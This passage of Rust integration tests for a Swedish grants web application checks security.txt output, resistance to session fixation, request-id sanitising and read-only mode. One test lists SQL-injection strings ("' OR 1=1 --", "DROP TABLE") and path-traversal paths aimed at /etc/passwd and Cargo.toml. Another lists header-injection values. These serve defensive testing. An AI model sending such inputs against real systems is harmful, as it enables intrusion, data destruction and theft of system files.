    let page = send(&app, get("/redaktion/inloggningar", None)).await;
    assert_eq!(page.status, StatusCode::SEE_OTHER);
}

#[tokio::test]
async fn security_txt_is_served_from_configuration() {
    let (mut state, _app, _dir) = setup().await;
    assert_eq!(
        send(&router(state.clone()), get("/.well-known/security.txt", None))
            .await
            .status,
        StatusCode::NOT_FOUND
    );
    std::sync::Arc::make_mut(&mut state.config).security_contact =
        Some("mailto:sakerhet@samverkan.example".into());
    std::sync::Arc::make_mut(&mut state.config).public_url = Some("https://samverkan.example".into());
    let answer = send(&router(state), get("/.well-known/security.txt", None)).await;
    assert_eq!(answer.status, StatusCode::OK);
    assert!(
        answer
            .body
            .contains("Contact: mailto:sakerhet@samverkan.example\n")
    );
    assert!(
        answer
            .body
            .contains("Canonical: https://samverkan.example/.well-known/security.txt\n")
    );
    let expires = answer
        .body
        .lines()
        .find_map(|l| l.strip_prefix("Expires: "))
        .expect("an Expires line");
    let expires: jiff::Timestamp = expires.parse().unwrap();
    let days = (expires - jiff::Timestamp::now()).get_seconds() / 86_400;
    assert!((300..=366).contains(&days), "{days}");
}

// ------------------------------------------------- what held, kept holding

#[tokio::test]
async fn a_session_cookie_planted_before_login_is_not_the_session_after() {
    let (_state, app, _dir) = setup().await;
    let (token, cookie) = login_form(&app).await;
    let planted = "samverkan-session=planterad-av-angriparen";
    let answer = send(
        &app,
        login_request(
            &format!("{cookie}; {planted}"),
            &token,
            "redaktor",
            PASSWORD,
            "/redaktion",
            None,
        ),
    )
    .await;
    assert_eq!(answer.status, StatusCode::SEE_OTHER);
    let issued = answer
        .set_cookies()
        .into_iter()
        .find(|c| c.starts_with("samverkan-session="))
        .unwrap();
    assert!(!issued.contains("planterad"), "a fresh secret is issued");
    assert_eq!(
        send(&app, get("/redaktion", Some(planted))).await.status,
        StatusCode::SEE_OTHER
    );
}

#[tokio::test]
async fn injected_sql_and_paths_are_only_text() {
    let (state, app, _dir) = setup().await;
    let before = state.store.entries(true).await.unwrap();
    for path in [
        "/bidrag?q=%27%3B%20DROP%20TABLE%20entries%3B%20--",
        "/api/v1/grants?q=%27%20OR%201%3D1%20--",
        "/api/v1/grants?provider=%27%20OR%20%271%27%3D%271",
        "/api/v1/search?q=%22%29%20OR%20%28%22",
        "/api/v1/grants/%27%20OR%201%3D1%20--",
        "/aktorer/..%2f..%2fetc%2fpasswd",
        "/static/..%2f..%2fCargo.toml",
        "/static/../../Cargo.toml",
        "/bidrag/%2e%2e/%2e%2e/etc/passwd",
        // Pages of the lists: numbers only, within bounds.
        "/overlapp?page=18446744073709551616",
        "/overlapp?page=99999",
        "/aktorer?page=%27%20OR%201%3D1",
        "/aktorer?page=1&page=2",
        "/en/actors?page=100000",
        // The alert pages: filters are checked against the catalogue,
        // tokens are only compared.
        "/bevaka?area=%27%20OR%201%3D1",
        "/bevaka?grant=..%2f..%2fetc%2fpasswd",
        "/bevaka/hantera?t=%27%20OR%201%3D1%20--",
        "/bevaka/bekrafta?t=%27%20OR%20confirm_hash%20IS%20NOT%20NULL%20--",
        "/en/alerts/unsubscribe?t=u.%27%20OR%201%3D1%20--.99999999999.AAAA",
    ] {
        let answer = send(&app, get(path, None)).await;
        assert!(
            [StatusCode::OK, StatusCode::BAD_REQUEST, StatusCode::NOT_FOUND].contains(&answer.status),
            "{path}: {}",
            answer.status
        );
        assert!(
            !answer.body.contains("[workspace]") && !answer.body.contains("root:x:0"),
            "{path}"
        );
    }
    assert_eq!(state.store.entries(true).await.unwrap(), before);
}

#[tokio::test]
async fn every_answer_has_a_request_id_and_only_a_plain_one_is_taken_from_the_client() {
    let (_state, app, _dir) = setup().await;
    let id = |answer: &Answer| answer.headers["x-request-id"].to_str().unwrap().to_string();
    let (one, two) = (
        send(&app, get("/", None)).await,
        send(&app, get("/api/v1/nowhere", None)).await,
    );
    let plain = |id: &str| id.len() <= 64 && id.chars().all(|c| c.is_ascii_hexdigit() || c == '-');
    assert!(plain(&id(&one)) && id(&one).len() >= 18, "{}", id(&one));
    assert_ne!(id(&one), id(&two), "one id per request");
    let (three, four) = (send(&app, get("/", None)).await, send(&app, get("/", None)).await);
    assert_ne!(id(&three), id(&four), "also for answers from the cache");

    let with = |value: &str| {
        let mut request = get("/healthz", None);
        request
            .headers_mut()
            .insert("x-request-id", value.parse().unwrap());
        request
    };
    let kept = send(&app, with("proxy-4711.a_b")).await;
    assert_eq!(id(&kept), "proxy-4711.a_b", "a plain id from a proxy is kept");
    for hostile in ["id\" evil=\"1", &"x".repeat(65), "a b", "%0d%0a"] {
        let answer = send(&app, with(hostile)).await;
        assert!(
            plain(&id(&answer)) && id(&answer) != hostile,
            "{hostile:?} is replaced by a new id"
        );
    }
}

#[tokio::test]
async fn a_read_only_installation_refuses_every_change_and_says_why() {
    let (mut state, _, _dir) = setup().await;
    let (token, _) = token_for(&state.store, "redaktor").await;
    std::sync::Arc::make_mut(&mut state.config).read_only = true;
    let app = router(state);
    assert_eq!(send(&app, get("/", None)).await.status, StatusCode::OK);
    assert_eq!(
        send(&app, get("/api/v1/grants", None)).await.status,
        StatusCode::OK
    );
    let ready = send(&app, get("/readyz", None)).await;
    assert!(ready.body.contains("read-only"), "{}", ready.body);

    let written = create_by_api(&app, &token, hostile_grant("skrivskydd", "Bidrag"), "").await;
    assert_eq!(written.status, StatusCode::SERVICE_UNAVAILABLE);
    assert!(written.body.contains("\"read_only\""), "{}", written.body);
    for path in ["/redaktion", "/redaktion/logga-in", "/en/editor/login"] {
        let page = send(&app, get(path, None)).await;
        assert_eq!(page.status, StatusCode::SERVICE_UNAVAILABLE, "{path}");
        assert!(
            page.body.contains("skrivskyddad") || page.body.contains("read-only"),
            "{path}: {}",
            page.body
        );
        assert!(
            !page.body.contains(r#"action="/redaktion""#) && !page.body.contains(r#"action="/en/editor""#),
            "{path}: the page offers the public search, not the switched-off area"
        );
    }
    let login = send(
        &app,
        post_form("/redaktion/logga-in", None, &[("username", "redaktor")]),
    )
    .await;
    assert_eq!(
        login.status,
        StatusCode::SERVICE_UNAVAILABLE,
        "signing in writes a session"
    );
    // E-mail alerts write subscriptions: not offered, and refused.
    let finder = send(&app, get("/bidrag", None)).await;
    assert!(!finder.body.contains("/bevaka"), "the finder offers no alerts");
    let subscribe = send(
        &app,
        post_form("/bevaka", None, &[("email", "a@example.se"), ("reminder", "3")]),
    )
    .await;
    assert_eq!(subscribe.status, StatusCode::SERVICE_UNAVAILABLE);
    for path in ["/bevaka?area=boende", "/en/alerts/mine", "/bevaka/hantera?t=x"] {
        assert_eq!(
            send(&app, get(path, None)).await.status,
            StatusCode::SERVICE_UNAVAILABLE,
            "{path}"
        );
    }
}
